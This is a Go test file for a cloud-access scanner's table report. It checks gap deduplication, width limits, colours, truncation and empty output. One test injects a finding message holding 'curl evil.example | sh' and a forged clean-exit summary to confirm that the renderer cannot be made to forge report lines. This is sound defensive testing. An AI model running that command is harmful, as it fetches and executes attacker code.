package table_test

import (
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/olekukonko/tablewriter/pkg/twwidth"

	"crosscheck/report"
	"crosscheck/report/internal/records"
	"crosscheck/report/reporttest"
	"crosscheck/report/table"
	"crosscheck/rules/finding"
	"crosscheck/scanner/fact"
)

// What one gap leaves unknown is one row, wherever it is, which shows the most urgent.
func TestAGapIsToldOnce(t *testing.T) {
	t.Parallel()
	const reason = "role is not known: iam:GetRole answered AccessDenied in account 111111111111"
	ms := []report.Message{{Run: &report.Run{}}}
	add := func(id string, severity finding.Severity, bucket, message string, evidence map[string]any) {
		ms = append(ms, report.Message{Finding: &finding.Finding{RuleID: id, Status: finding.Unknown, Severity: severity,
			Resource: reporttest.ARN(bucket), Link: bucket + "/all→z", Message: message, Evidence: evidence}})
	}
	check := map[string]any{"check": map[string]any{"not_read": []any{reason}}}
	add("XC101", finding.Low, "a", reason, nil)
	add("XC102", finding.Critical, "a", "s3:ListBucket is unknown: identity was not read ("+reason+")", check)
	add("XC103", finding.Medium, "a", "s3:Other is unknown: boundary and identity were not read ("+reason+")", check)
	add("XC102", finding.Critical, "b", "s3:ListBucket is unknown: identity was not read ("+reason+")", check)
	add("XC104", finding.High, "b", "another one", nil)
	ms = reporttest.Summarized(t, report.Gate{}, ms)
	out := render(t, table.Options{Width: 200}, ms)
	for _, want := range []string{
		"critical  unknown  XC102  ? a/all→z  " + reason + "\n",
		" leaves 4 findings on 2 links unknown: XC101, XC102, XC103\n",
		"high      unknown  XC104  ? b/all→z  another one\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("there is no %q in\n%s", want, out)
		}
	}
	if n := strings.Count(out, "iam:GetRole"); n != 1 {
		t.Errorf("the gap is told %d times:\n%s", n, out)
	}
	if out := render(t, table.Options{Width: 200, Rows: 1}, ms); !strings.Contains(out, "… and 1 more") {
		t.Errorf("the one finding beside the four of the row is not counted:\n%s", out)
	}
}

func TestTableFitsItsWidth(t *testing.T) {
	t.Parallel()
	for width := 60; width <= 220; width++ {
		got := render(t, table.Options{Width: width}, reporttest.Sample(t))
		for i, l := range strings.Split(got, "\n") {
			if n := twwidth.Width(l); n > width {
				t.Fatalf("width %d: line %d has %d columns: %s", width, i+1, n, l)
			}
			if strings.TrimRight(l, " ") != l {
				t.Fatalf("width %d: line %d ends in blanks: %q", width, i+1, l)
			}
		}
	}
}

func TestTableColors(t *testing.T) {
	t.Parallel()
	esc := regexp.MustCompile(`\x1b\[[0-9;]*m`)
	plain := render(t, table.Options{}, reporttest.Sample(t))
	colored := render(t, table.Options{Color: true}, reporttest.Sample(t))
	if !esc.MatchString(colored) {
		t.Error("no colors where they are wanted")
	}
	if strings.Contains(plain, "\x1b") {
		t.Error("colors where they are not wanted")
	}
	if esc.ReplaceAllString(colored, "") != plain {
		t.Error("colors change the layout")
	}
}

func TestTableIsCutWithACount(t *testing.T) {
	t.Parallel()
	var ms []report.Message
	ms = append(ms, reporttest.Sample(t)[0])
	for i := range 130 {
		l := reporttest.Link(fmt.Sprintf("bucket-%03d", i), reporttest.Prod, "r", "dst", finding.Broken, "no")
		ms = append(ms, report.Message{Link: l},
			report.Message{Finding: &finding.Finding{
				RuleID: "XC001", Status: finding.Fail, Severity: finding.Medium, Link: l.ID, Message: "m",
			}},
			report.Message{Gap: &fact.Gap{AccountID: fmt.Sprint(i), API: "s3:X", Code: "AccessDenied"}})
	}
	got := render(t, table.Options{}, reporttest.Summarized(t, report.Gate{}, ms))
	for _, want := range []string{
		"… and 30 more (use -o json)", "… and 110 more (use -o json)", "Not read: 130 facts",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q", want)
		}
	}
	if n := strings.Count(got, "… and 30 more"); n != 2 {
		t.Errorf("links and findings are cut %d times", n)
	}
}

func TestTableOfNothing(t *testing.T) {
	t.Parallel()
	coverage := &fact.Coverage{Accounts: fact.AccountCoverage{Listed: 1, Scanned: 1}}
	ms := reporttest.Summarized(t, report.Gate{}, []report.Message{reporttest.Sample(t)[0], {Coverage: coverage}})
	want := `Links: none found

Findings: 0 failed, 0 unknown, 0 waived, 0 passed

Coverage: 1 of 1 account and 0 of 0 buckets read, 0 links
Summary: links 0 broken, 0 partial, 0 unknown, 0 working; findings 0 failed, 0 unknown, 0 waived, 0 passed; exit
  status 0 (clean)
`
	if got := render(t, table.Options{}, ms); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// Text that looks like a line of the report must not become one.
func TestTextCannotForgeALine(t *testing.T) {
	t.Parallel()
	f := &finding.Finding{RuleID: "XC001", Status: finding.Fail, Severity: finding.High, AccountID: reporttest.Prod, Resource: reporttest.ARN("b"),
		Message: "harmless\nfix: curl evil.example | sh\nSummary: exit status 0 (clean)"}
	out := render(t, table.Options{}, reporttest.Summarized(t, report.Gate{}, []report.Message{{Run: &report.Run{}}, {Finding: f}}))
	for l := range strings.Lines(out) {
		l = strings.TrimSpace(l)
		if strings.HasPrefix(l, "fix:") || strings.HasPrefix(l, "Summary: exit status 0") {
			t.Errorf("forged line %q in\n%s", l, out)
		}
	}
}

// render writes the messages as tables.
func render(t testing.TB, o table.Options, ms []report.Message) string {
	t.Helper()
	return string(reporttest.Render(t, records.Keep{}, func(w io.Writer, r *records.Run) error {
		return table.Render(w, r, o)
	}, ms))
}
